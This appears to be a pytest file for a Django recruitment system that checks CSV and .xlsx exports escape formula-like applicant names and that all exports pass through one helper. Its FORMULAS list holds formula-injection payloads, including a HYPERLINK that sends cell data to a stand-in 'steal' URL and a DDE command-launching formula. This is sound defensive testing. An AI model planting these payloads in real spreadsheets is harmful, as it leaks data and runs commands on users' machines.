"""Formula injection: a name such as ``=HYPERLINK(…)`` or ``=cmd|' /C calc'!A0`` must reach
a downloaded spreadsheet as text, never as a formula, in CSV and in .xlsx; and every export of
the project is written by ``core.exports``."""

import ast
import csv
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import csv_content, escape_cell, unescape_cell, xlsx_content
from recruitment.constants import ApplicationState

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://example.com/steal?x="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_escaped_and_read_back_as_written(text):
    escaped = escape_cell(text)
    assert escaped == f"'{text}"
    assert unescape_cell(str(escaped)) == text


@pytest.mark.parametrize("value", ["王堃", "2026001 0001", "缺考", "80.50", 80.5, 3, None, ""])
def test_ordinary_cells_are_left_alone(value):
    assert escape_cell(value) == value


def test_csv_and_xlsx_hold_formulas_as_text():
    rows = [["姓名"], *([text] for text in FORMULAS), [80.5]]
    lines = list(csv.reader(io.StringIO(csv_content(rows).decode("utf-8-sig"), newline="")))
    assert [line[0] for line in lines[1:-1]] == [f"'{text}" for text in FORMULAS]
    assert lines[-1] == ["80.5"]

    sheet = load_workbook(io.BytesIO(xlsx_content(rows))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    for cell, text in zip(cells, FORMULAS, strict=False):
        expected = text.replace("\r", "\n")  # XML reads a carriage return as a line feed
        assert (cell.value, cell.data_type, cell.quotePrefix) == (expected, "s", True)
    assert (cells[-1].value, cells[-1].data_type) == (80.5, "n")


# The score sheet -------------------------------------------------------------------------------


@pytest.fixture
def candidates(open_campaign):
    """Applicants who registered with formulas for names, admitted to the written exam."""
    run = open_campaign()
    return run.campaign, run.admitted([FORMULAS[0], FORMULAS[1], "王堃"])


def test_the_score_sheet_csv_escapes_applicants_names(client, committee, candidates):
    campaign, (hyperlink, command, plain) = candidates
    client.force_login(committee)
    response = client.get(reverse("recruitment:exam_import_template", args=[campaign.pk]))
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    names = {row[0]: row[1] for row in rows[1:]}
    assert names[hyperlink.admission_number] == f"'{FORMULAS[0]}"
    assert names[command.admission_number] == f"'{FORMULAS[1]}"
    assert names[plain.admission_number] == "王堃"


def test_the_score_sheet_xlsx_holds_names_as_text(client, committee, candidates):
    campaign, (hyperlink, _command, _plain) = candidates
    client.force_login(committee)
    url = reverse("recruitment:exam_import_template", args=[campaign.pk])
    response = client.get(url, {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    cell = rows[hyperlink.admission_number]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (FORMULAS[0], "s", True)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_filled_in_score_sheet_comes_back_with_the_names_matching(
    client, committee, candidates, kind
):
    campaign, applications = candidates
    client.force_login(committee)
    url = reverse("recruitment:exam_import_template", args=[campaign.pk])
    response = client.get(url, {"format": kind} if kind == "xlsx" else {})
    if kind == "csv":
        text = response.content.decode("utf-8-sig")
        filled = text.replace(",\r\n", ",75\r\n").encode("utf-8-sig")
    else:
        book = load_workbook(io.BytesIO(response.content))
        for row in book.active.iter_rows(min_row=2):
            row[2].value = "75"
        buffer = io.BytesIO()
        book.save(buffer)
        filled = buffer.getvalue()
    response = client.post(
        reverse("recruitment:exam_import", args=[campaign.pk]),
        {"file": SimpleUploadedFile(f"scores.{kind}", filled)},
    )
    assert response.status_code == 200, response.context["report"].errors
    for application in applications:
        application.refresh_from_db()
        assert application.state == ApplicationState.SCORED


def test_the_village_template_is_written_through_the_export_helper(client, hr):
    client.force_login(hr)
    csv_response = client.get(reverse("organisation:import_template"))
    assert csv_response.content.decode("utf-8-sig").startswith("乡镇(街道),村(居、社区),户籍人口")
    xlsx_response = client.get(reverse("organisation:import_template"), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx_response.content)).active
    assert [c.value for c in next(sheet.iter_rows())][:3] == [
        "乡镇(街道)",
        "村(居、社区)",
        "户籍人口",
    ]


# Every export goes through core.exports ----------------------------------------------------------

WRITERS = {"writer", "DictWriter", "Workbook", "WriteOnlyCell"}
EXEMPT = {
    Path("core/exports.py"),  # the helper itself
    Path("bench/recruitment.py"),  # builds an input file for a benchmark; nobody downloads it
}


def _python_files():
    root = Path(settings.BASE_DIR)
    for path in sorted(root.rglob("*.py")):
        relative = path.relative_to(root)
        if relative.parts[0] in {".venv", ".tools", "tests", "var", "node_modules"}:
            continue
        if "migrations" in relative.parts or relative in EXEMPT:
            continue
        yield relative, path


def test_no_module_but_core_exports_writes_a_spreadsheet():
    offenders = []
    for relative, path in _python_files():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            name = None
            if isinstance(node, ast.Attribute) and node.attr in WRITERS:
                name = node.attr
            elif isinstance(node, ast.alias) and node.name.split(".")[-1] in WRITERS:
                name = node.name
            elif isinstance(node, ast.Constant) and node.value in {"text/csv", "csv"}:
                name = repr(node.value)
            if name:
                offenders.append(f"{relative}:{node.lineno} {name}")
    assert offenders == []
